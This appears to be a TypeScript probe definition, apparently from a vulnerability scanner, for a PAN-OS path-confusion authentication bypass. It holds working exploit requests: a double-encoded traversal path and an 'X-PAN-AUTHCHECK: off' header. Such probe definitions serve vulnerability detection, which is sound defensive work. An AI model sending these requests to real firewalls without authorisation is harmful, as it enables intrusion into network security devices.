import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof('pan-os-path-confusion', get('/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css'), [
    get('/php/ztp_gate.php/.js.map', { headers: { 'X-PAN-AUTHCHECK': 'off' } }),
    get('/unauth/login.php'),
  ]),
]
